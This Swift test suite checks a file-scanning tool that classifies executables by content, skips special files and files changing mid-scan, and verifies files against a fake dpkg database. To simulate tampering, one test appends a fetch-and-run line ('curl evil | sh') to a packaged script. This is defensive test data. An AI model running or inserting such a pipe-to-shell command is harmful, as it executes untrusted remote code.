import AppctlCore
import AppctlLearn
import AppctlKernel
import AppctlTestSupport
import Foundation
import Synchronization
import Testing

/// A tree with every kind of thing a scan meets, built at test time from this machine's own binaries.
struct Fixture {
    let dir: TemporaryDirectory
    var root: String { dir.file("root") }

    init() throws {
        dir = TemporaryDirectory("appctl-fixture")
        let fm = FileManager.default
        try fm.createDirectory(atPath: dir.file("root/bin"), withIntermediateDirectories: true)
        try fm.createDirectory(atPath: dir.file("root/lib"), withIntermediateDirectories: true)
        try fm.createDirectory(atPath: dir.file("root/scripts"), withIntermediateDirectories: true)
        try fm.createDirectory(atPath: dir.file("root/data"), withIntermediateDirectories: true)
        try fm.createDirectory(atPath: dir.file("root/loop"), withIntermediateDirectories: true)
        try copy("/usr/bin/true", "root/bin/true-copy", mode: 0o755)
        try copy("/usr/bin/true", "root/bin/true-no-x-bit", mode: 0o644)       // ELF by content, no x bit
        try copy("/usr/lib/x86_64-linux-gnu/libz.so.1.2.13", "root/lib/libz.so.1", mode: 0o644)
        try copy("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "root/lib/ld-linux-x86-64.so.2", mode: 0o755)
        try dir.write("root/scripts/run.sh", "#!/bin/sh\necho run\n", mode: 0o755)
        try dir.write("root/scripts/no-x-bit.py", "#!/usr/bin/python3\nprint(1)\n", mode: 0o644)
        try dir.write("root/scripts/gone.sh", "#!/bin/sh\necho gone\n", mode: 0o755)
        try dir.write("root/data/readme.txt", "just text\n", mode: 0o644)
        try dir.write("root/data/looks-like-a-script.sh", "echo no shebang\n", mode: 0o644)  // name says script, content does not
        try dir.write("root/data/blob-with-x-bit", "\u{0}\u{1}binary", mode: 0o755)
        #expect(mkfifo(dir.file("root/data/fifo"), 0o644) == 0)
        #expect(symlink("b", dir.file("root/loop/a")) == 0)
        #expect(symlink("a", dir.file("root/loop/b")) == 0)
        #expect(symlink("..", dir.file("root/loop/up")) == 0)
        #expect(symlink("/usr/bin", dir.file("root/loop/outside")) == 0)
        #expect(symlink("/usr/bin/ls", dir.file("root/bin/ls-link")) == 0)
    }

    func copy(_ from: String, _ to: String, mode: mode_t) throws {
        try FileManager.default.copyItem(atPath: from, toPath: dir.file(to))
        chmod(dir.file(to), mode)
    }

    /// What a correct scan of the fixture learns (with gone.sh removed before hashing).
    var expected: [String: FileKind] {
        [
            "bin/true-copy": .elfExec, "bin/true-no-x-bit": .elfExec,
            "lib/libz.so.1": .elfLib, "lib/ld-linux-x86-64.so.2": .elfLib,
            "scripts/run.sh": .script, "scripts/no-x-bit.py": .script,
            "data/blob-with-x-bit": .otherExec,
        ]
    }
}

@Suite struct LearnTests {
    @Test func fixtureTreeIsLearnedByContent() throws {
        let fixture = try Fixture(); defer { fixture.dir.remove() }
        let gone = fixture.dir.file("root/scripts/gone.sh")
        var options = LearnOptions(roots: [fixture.root])
        options.afterListing = { listed in
            // A file listed and then deleted before it is opened: the scan must carry on.
            #expect(listed.contains(gone))
            unlink(gone)
        }
        let report = Scanner(options: options).run()
        var learned: [String: FileKind] = [:]
        for entry in report.entries {
            let path = PathEscaping.unescapedString(entry.escapedPath)
            learned[String(path.dropFirst(fixture.root.count + 1))] = entry.kind
            #expect(entry.digest.hex == (try sha256sum(path)), "\(path)")
            #expect(entry.origin == .local)
        }
        #expect(learned == fixture.expected)
        #expect(report.vanished == 1)
        #expect(report.specialFilesSkipped >= 6)   // the FIFO and five symlinks, none opened or followed
        #expect(report.exclusions.isEmpty, "\(report.exclusions)")
    }

    @Test func excludesMatchHoweverRootsAreSpelled() throws {
        let fixture = try Fixture(); defer { fixture.dir.remove() }
        unlink(fixture.dir.file("root/data/fifo"))
        // The root spelled with "..", the exclude spelled plainly: still the same directory.
        let options = LearnOptions(roots: [fixture.root + "/bin/../"], excludes: [fixture.root + "/data"])
        let report = Scanner(options: options).run()
        #expect(!report.entries.isEmpty)
        #expect(report.entries.allSatisfy { !$0.escapedPath.contains("/data/") }, "the excluded directory was scanned")
        #expect(report.entries.allSatisfy { $0.escapedPath.hasPrefix(fixture.root + "/") }, "paths are absolute and clean")
    }

    @Test func fileChangingWhileHashedIsExcluded() throws {
        let dir = TemporaryDirectory(); defer { dir.remove() }
        try FileManager.default.createDirectory(atPath: dir.file("root"), withIntermediateDirectories: true)
        let path = dir.file("root/growing")
        // 256 MiB of ELF-looking content, hashed for ~0.1–0.3 s, appended to all the while.
        let fd = try FileDescriptor.open(path, [.writeOnly, .create, .truncate], permissions: 0o755)
        let chunk = [UInt8](repeating: 0x5a, count: 1 << 20)
        try fd.writeAll(Array("#!/bin/sh\n".utf8))
        for _ in 0..<256 { try fd.writeAll(chunk) }
        fd.close()
        let stop = Atomic<Bool>(false)
        let writer = Thread {
            guard let out = try? FileDescriptor.open(path, [.writeOnly, .append]) else { return }
            defer { out.close() }
            while !stop.load(ordering: .relaxed) {
                try? out.writeAll([0x0a])
                usleep(200)
            }
        }
        writer.start()
        defer { stop.store(true, ordering: .relaxed) }
        let report = Scanner(options: LearnOptions(roots: [dir.file("root")], threads: 1)).run()
        stop.store(true, ordering: .relaxed)
        #expect(report.entries.isEmpty)
        #expect(report.exclusions.map(\.reason) == [.changedDuringScan])
    }

    @Test func fakeDpkgDatabaseCatchesATamperedFileAndFollowsDiversions() throws {
        let fixture = try Fixture(); defer { fixture.dir.remove() }
        let dir = fixture.dir
        try FileManager.default.createDirectory(atPath: dir.file("admin/info"), withIntermediateDirectories: true)
        func md5(_ rel: String) throws -> String { String(try run("/usr/bin/md5sum", [dir.file(rel)]).stdout.prefix(32)) }
        func record(_ rel: String) -> String { String(dir.file(rel).dropFirst()) }   // dpkg paths have no leading slash
        try dir.write("root/bin/diverted", "#!/bin/sh\necho new version\n", mode: 0o755)
        try dir.write("root/bin/diverted.distrib", "#!/bin/sh\necho packaged version\n", mode: 0o755)
        try dir.write("admin/info/coreutils.md5sums", """
            \(try md5("root/bin/true-copy"))  \(record("root/bin/true-copy"))
            \(try md5("root/scripts/run.sh"))  \(record("root/scripts/run.sh"))
            \(try md5("root/bin/diverted.distrib"))  \(record("root/bin/diverted"))

            """)
        try dir.write("admin/info/zlib1g:amd64.md5sums", "\(try md5("root/lib/libz.so.1"))  \(record("root/lib/libz.so.1"))\n")
        try dir.write("admin/info/diverter.md5sums", "\(try md5("root/bin/diverted"))  \(record("root/bin/diverted"))\n")
        try dir.write("admin/diversions", "\(dir.file("root/bin/diverted"))\n\(dir.file("root/bin/diverted.distrib"))\ndiverter\n")
        // Tamper with a packaged script after installation.
        let tampered = try FileDescriptor.open(dir.file("root/scripts/run.sh"), [.writeOnly, .append])
        try tampered.writeAll(Array("curl evil | sh\n".utf8))
        tampered.close()

        let dpkg = try DpkgDatabase(adminDir: dir.file("admin"))
        #expect(dpkg.packageCount == 3)
        let report = Scanner(options: LearnOptions(roots: [fixture.root], dpkg: dpkg)).run()
        var origins: [String: Origin] = [:]
        for e in report.entries { origins[String(PathEscaping.unescapedString(e.escapedPath).dropFirst(fixture.root.count + 1))] = e.origin }
        #expect(origins["bin/true-copy"] == .dpkg(package: "coreutils"))
        #expect(origins["lib/libz.so.1"] == .dpkg(package: "zlib1g"))
        #expect(origins["bin/diverted"] == .dpkg(package: "diverter"))
        #expect(origins["bin/diverted.distrib"] == .dpkg(package: "coreutils"))
        #expect(origins["scripts/run.sh"] == nil, "a tampered package file must not be learned")
        #expect(origins["bin/true-no-x-bit"] == .local)
        #expect(report.exclusions == [Exclusion(path: dir.file("root/scripts/run.sh"), reason: .modifiedFromPackage("coreutils"))])

        var withModified = LearnOptions(roots: [fixture.root], dpkg: dpkg)
        withModified.includeModified = true
        let included = Scanner(options: withModified).run()
        let runEntry = included.entries.first { $0.escapedPath.hasSuffix("scripts/run.sh") }
        #expect(runEntry?.origin == .local)
        #expect(included.exclusions.count == 1, "still reported when included")
    }

    @Test func realDpkgDatabaseVerifiesThisMachine() throws {
        let dpkg = try DpkgDatabase(adminDir: "/var/lib/dpkg")
        #expect(dpkg.packageCount > 10)
        let report = Scanner(options: LearnOptions(roots: ["/usr/bin"], dpkg: dpkg)).run()
        let ls = report.entries.first { $0.escapedPath == "/usr/bin/ls" }
        #expect(ls?.origin == .dpkg(package: "coreutils"), "usr-merge alias: dpkg records bin/ls")
        #expect(ls?.digest.hex == (try sha256sum("/usr/bin/ls")))
        let fromPackages = report.entries.count { if case .dpkg = $0.origin { true } else { false } }
        #expect(fromPackages * 2 > report.entries.count, "most of /usr/bin comes from packages")
    }
}
